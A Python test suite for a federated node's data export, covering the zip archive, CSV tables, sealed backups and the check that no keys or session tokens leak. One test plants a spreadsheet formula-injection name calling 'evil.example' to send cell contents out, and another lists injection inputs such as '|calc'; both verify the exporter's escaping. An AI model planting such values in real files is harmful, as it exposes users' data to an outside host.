"""What an owner takes along: all of it, nothing of anybody else's, and no key to anything."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import tracemalloc
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from zipfile import ZipFile

import pytest

from federation.keys import SigningKey
from node.desk import Desk
from node.domain.accounts import Account
from node.queries import archive
from node.queries.archive import FILES, archive_of
from node.services.accounts import find_account
from node.services.entering import make_log_in_link
from node.store.backup import read_backup
from node.store.ports import Passkey, StoreRefused
from node.web.export_tables import safe_cell
from node.web.zipping import zipped
from tests.browsing import Browser, Seen
from tests.integration.conftest import Home, World, cast_bicycle
from tests.unit.node.web.private.street import Street

pytestmark = pytest.mark.anyio

EXPORT = "/my/export"
PASSPHRASE = "five quiet bicycles in Glasgow"


@pytest.fixture
async def world(tmp_path: Path, rsa: SigningKey, anyio_backend: str) -> AsyncIterator[World]:
    made = World(tmp_path, rsa)
    yield made
    await made.aclose()


async def agreed(world: World) -> Street:
    """Ana has agreed with North on a bicycle, and cast once more to a shop that is not there."""
    street = await Street.of(world, "north", "south", rule=True)
    await cast_bicycle(street.ana, "north")
    await world.settle()
    deal = (await street.ana.deal()).id
    await street.ana.ask("deal.accept", offer=deal)
    await world.settle()
    world.network.down.add("south.example")
    await cast_bicycle(street.ana, "south")
    await world.settle()
    return street


async def account_of(home: Home, name: str) -> Account:
    return await home.node.look(lambda desk: find_account(desk, name))


async def taken(browser: Browser, what: str) -> Seen:
    await browser.get(EXPORT)
    seen = await browser.submit(action=f"{EXPORT}/{what}")
    assert seen.status == 200, seen.words
    return seen


def unpacked(body: bytes) -> dict[str, bytes]:
    with ZipFile(io.BytesIO(body)) as found:
        assert found.testzip() is None
        return {name: found.read(name) for name in found.namelist()}


def lines(data: bytes) -> list[Any]:
    return [json.loads(line) for line in data.splitlines()]


# --- everything -------------------------------------------------------------------------------------------


async def test_archive_holds_every_message_byte_for_byte(world: World) -> None:
    street = await agreed(world)
    seen = await taken(street.browser, "everything")
    assert seen.header("content-disposition") == 'attachment; filename="ana-ana.example-2026-11-23.zip"'
    assert seen.header("content-type") == "application/zip"
    files = unpacked(seen.body)
    assert tuple(files) == ("README.txt", *FILES)
    deals = await street.ana.deals()

    def evidence(desk: Desk) -> list[bytes]:
        return [one.body for deal in deals for one in desk.tx.evidence.of_deal(deal.own, deal.id)]

    bodies = await street.ana.node.look(evidence)
    messages = lines(files["messages.ndjson"])
    assert sorted(one["body"].encode() for one in messages) == sorted(bodies)
    assert len(bodies) > 4
    for one in messages:
        assert hashlib.sha256(one["body"].encode()).hexdigest() == one["sha256"]
    assert {one["id"] for one in lines(files["deals.ndjson"])} == {deal.id for deal in deals}
    assert [one["name"] for one in lines(files["intents.ndjson"])] == ["child bicycle", "child bicycle"]
    assert {one["handle"] for one in lines(files["contacts.ndjson"])} == {
        "@north@north.example",
        "@south@south.example",
    }
    assert lines(files["outbox.ndjson"])[0]["recipient"] == "https://south.example/actors/south"
    documents = {one["sha256"] for one in lines(files["documents.ndjson"])}
    assert {one["document"] for one in messages if one["document"]} == documents
    assert len(lines(files["names.ndjson"])) == 2
    who = json.loads(files["account.json"])
    assert (who["name"], who["kind"], len(who["keys"])) == ("ana", "person", 2)


async def test_readme_names_each_file_in_the_readers_language(world: World) -> None:
    street = await Street.of(world)
    words = unpacked((await taken(street.browser, "everything")).body)["README.txt"].decode()
    named = [line.split()[0] for line in words.split("\r\n") if line.partition(" ")[0].endswith("json")]
    assert tuple(named) == FILES
    assert "private keys" in words


async def test_nothing_that_lets_anybody_in_is_in_the_archive(world: World) -> None:
    street = await agreed(world)
    account = await account_of(street.ana, "ana")
    passkey = Passkey(
        "cGFzc2tleS1pZC1vZi1hbmE", account.id, "phone", b"public key of ana's phone", 0, world.clock.now
    )
    await street.ana.node.work(lambda desk: desk.tx.passkeys.save(passkey))
    node = street.ana.node
    link = (await node.work(lambda desk: make_log_in_link(desk, account))).url.partition("token=")[2]

    def secrets(desk: Desk) -> dict[str, bytes]:
        owners = [account.id, node.config.node_actor, *(one.id for one in desk.tx.personas.all(account.id))]
        rows = [row for owner in owners for row in desk.tx.keys.of(owner)]
        found = {f"sealed {row.key_id}": row.sealed for row in rows if row.sealed is not None}
        for row in rows:
            if row.algorithm == "ed25519":
                seed = node.keys.unsealed(row).material.private_bytes_raw()  # type: ignore[union-attr]
                found[f"private {row.key_id}"] = seed
        sessions = desk.tx.sessions.all(account.id)
        found |= {f"session {n}": bytes.fromhex(one.token_hash) for n, one in enumerate(sessions)}
        return found

    found = await node.look(secrets)
    assert len(found) > 6
    found["node key"] = node.config.node_key_path.read_bytes().strip()
    assert account.password_hash is not None
    found["password"] = account.password_hash.encode()
    found["passkey"] = passkey.id.encode()
    found["passkey's key"] = passkey.public_key
    found["log-in link"] = link.encode()
    found["cookie"] = next(iter(street.browser.cookies.values())).encode()
    body = (await taken(street.browser, "everything")).body
    tables = (await taken(street.browser, "deals")).body + (await taken(street.browser, "contacts")).body
    everything = b"\n".join([body, tables, *unpacked(body).values()])
    for name, secret in found.items():
        for form in (
            secret,
            secret.hex().encode(),
            base64.b64encode(secret),
            base64.urlsafe_b64encode(secret),
        ):
            assert form.rstrip(b"=") not in everything, name


async def test_archive_holds_nothing_of_who_else_lives_there(world: World) -> None:
    street = await agreed(world)
    bea = await street.another("bea")
    files = unpacked((await taken(bea, "everything")).body)
    for name, data in files.items():
        if name not in ("README.txt", "account.json"):
            assert data == b"", name
    assert json.loads(files["account.json"])["name"] == "bea"
    assert (await taken(bea, "deals")).body.count(b"\r\n") == 1
    assert (await taken(bea, "contacts")).body.count(b"\r\n") == 1


async def test_shop_takes_its_catalogue_and_rules_along(world: World) -> None:
    street = await agreed(world)
    north = await account_of(world.homes["north"], "north")
    found: dict[str, bytes] = {}
    async for name, piece in archive_of(world.homes["north"].node, north):
        found[name] = found.get(name, b"") + piece
    assert {one["sku"] for one in lines(found["catalogue.ndjson"])} == {"NK20", "NK24", "MILK"}
    assert [one["name"] for one in lines(found["rules.ndjson"])] == ["At once"]
    assert street.ana.name in found["deals.ndjson"].decode()


async def test_archive_goes_on_from_stretch_to_stretch(world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    street = await agreed(world)
    account = await account_of(street.ana, "ana")

    async def whole() -> dict[str, list[bytes]]:
        found: dict[str, list[bytes]] = {}
        async for name, piece in archive_of(street.ana.node, account):
            found.setdefault(name, []).append(piece)
        return found

    at_once = await whole()
    monkeypatch.setattr(archive, "_AT_ONCE", 1)
    one_by_one = await whole()
    assert {name: b"".join(pieces) for name, pieces in one_by_one.items()} == {
        name: b"".join(pieces) for name, pieces in at_once.items()
    }
    assert len(one_by_one["messages.ndjson"]) > 4
    assert all(piece.count(b"\n") <= 1 for piece in one_by_one["messages.ndjson"])


async def test_bytes_that_are_no_text_are_kept_in_base64() -> None:
    kept = archive._exact(b"\xff\x00")
    assert base64.b64decode(kept["body_base64"]) == b"\xff\x00"
    assert archive._exact("é".encode()) == {"body": "é", "sha256": hashlib.sha256("é".encode()).hexdigest()}


async def test_archive_is_sent_while_it_is_made() -> None:
    """However long it is: what is held is a piece, not the whole."""
    piece, count = bytes(range(256)) * 512, 200

    async def pieces() -> AsyncIterator[tuple[str, bytes]]:
        for number in range(count):
            yield f"{number // 100}.bin", piece

    tracemalloc.start()
    try:
        sent = 0
        async for part in zipped(pieces(), datetime(2026, 11, 23, tzinfo=UTC)):
            sent += len(part)
        _, most = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert sent > 0
    assert most < 10 * len(piece) < count * len(piece) / 10


async def test_archive_that_nobody_waits_for_is_left_without_a_word() -> None:
    async def pieces() -> AsyncIterator[tuple[str, bytes]]:
        yield "a", b"x" * 1_000_000
        raise StoreRefused("the disk is gone")

    made = zipped(pieces(), datetime(2026, 11, 23, tzinfo=UTC))
    await anext(made)
    await made.aclose()  # type: ignore[attr-defined]
    with pytest.raises(StoreRefused):
        [part async for part in zipped(pieces(), datetime(2026, 11, 23, tzinfo=UTC))]


# --- tables -----------------------------------------------------------------------------------------------


async def test_deals_are_a_table_with_amounts_and_words(world: World) -> None:
    street = await agreed(world)
    seen = await taken(street.browser, "deals")
    assert seen.header("content-disposition") == 'attachment; filename="ana-ana.example-deals-2026-11-23.csv"'
    assert seen.body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(seen.body.decode("utf-8-sig"), newline="")))
    assert len(rows) == 2
    won = next(row for row in rows if row["With"] == "North")
    assert (won["What"], won["State"], won["Price"], won["Currency"]) == (
        "North Kid 20",
        "agreed",
        "289.00",
        "EUR",
    )
    assert (won["Quantity"], won["Unit"], won["Address"]) == ("1", "pieces", "north@north.example")
    assert won["Agreed"] == "2026-11-23T09:00:00Z"


async def test_names_from_outside_are_never_taken_for_formulas(world: World) -> None:
    street = await agreed(world)
    account = await account_of(street.ana, "ana")
    north = f"{world.homes['north'].config.base_url}/actors/north"

    def rename(desk: Desk) -> None:
        known = desk.tx.contacts.get(account.id, north)
        assert known is not None
        evil = '=HYPERLINK("https://evil.example/?"&A1,"Nor\u202eth")'
        desk.tx.contacts.save(replace(known, name=evil, handle="@+north@north.example"))

    await street.ana.node.work(rename)
    for what in ("deals", "contacts"):
        text = (await taken(street.browser, what)).body.decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        cells = [cell for row in rows for cell in row]
        assert any(cell.startswith("'=HYPERLINK") and "[U+202E]" in cell for cell in cells)
        assert not [cell for cell in cells if cell[:1] in "=+-@" and cell]


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\n=1", "|calc", "%0A=1"]
)
def test_cell_that_might_be_worked_out_is_quoted(text: str) -> None:
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["", "North", "1 = 1", "a@b.example", "O'Neill", " "])
def test_plain_cell_stays_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


# --- the sealed backup ------------------------------------------------------------------------------------


async def sealed(street: Street, first: str, second: str) -> Seen:
    await street.browser.get(EXPORT)
    return await street.browser.submit({"passphrase": first, "again": second}, f"{EXPORT}/backup")


async def test_backup_opens_with_its_passphrase_alone_and_leaves_nothing_behind(
    world: World, tmp_path: Path
) -> None:
    street = await agreed(world)
    config = street.ana.config
    (config.data_dir / "config.toml").write_text(f'base_url = "{config.base_url}"\n')
    before = {path.name for path in config.data_dir.iterdir()}
    seen = await sealed(street, PASSPHRASE, PASSPHRASE)
    assert seen.status == 200
    assert {path.name for path in config.data_dir.iterdir()} == before
    path = tmp_path / "taken.obverse"
    path.write_bytes(seen.body)
    backup = read_backup(path, PASSPHRASE)
    assert backup.node_key == config.node_key_path.read_bytes()
    assert b"".join(backup.database()).startswith(b"SQLite format 3")
    with pytest.raises(StoreRefused):
        read_backup(path, PASSPHRASE + "x")


@pytest.mark.parametrize(
    ("first", "second", "words"),
    [
        ("too short", "too short", "Use at least 16."),
        (PASSPHRASE, PASSPHRASE + "x", "This is not the same."),
        ("", "", "This is empty."),
    ],
)
async def test_passphrase_that_is_weak_or_mistyped_is_asked_again(
    world: World, first: str, second: str, words: str
) -> None:
    street = await Street.of(world)
    seen = await sealed(street, first, second)
    assert (seen.status, words in seen.words) == (422, True)
    assert not first or first not in seen.html


async def test_node_of_several_is_backed_up_by_none_of_them(world: World) -> None:
    street = await Street.of(world)
    bea = await street.another("bea")
    for browser in (bea, street.browser):
        seen = await browser.get(EXPORT)
        assert "Others live on this node" in seen.words
        assert f"{EXPORT}/backup" not in [form.action for form in seen.read.forms]
        values = {"passphrase": PASSPHRASE, "again": PASSPHRASE}
        assert (await browser.post(f"{EXPORT}/backup", values)).status == 403


# --- for whom ---------------------------------------------------------------------------------------------


async def test_owner_proves_anew_who_they_are_before_anything_leaves(world: World) -> None:
    street = await Street.of(world)
    world.clock.forward(minutes=6)
    seen = await street.browser.get(EXPORT)
    assert seen.url.endswith(f"/my/confirm?next={EXPORT}")
    for what in ("everything", "deals", "contacts", "backup"):
        seen = await street.browser.post(f"{EXPORT}/{what}", {})
        assert seen.url.endswith(f"/my/confirm?next={EXPORT}"), what
    nobody = Browser(world.network.apps["ana.example"], street.base, says={"sec-fetch-site": "same-origin"})
    for what in ("everything", "deals", "contacts", "backup"):
        assert (await nobody.post(f"{EXPORT}/{what}", {})).status == 403
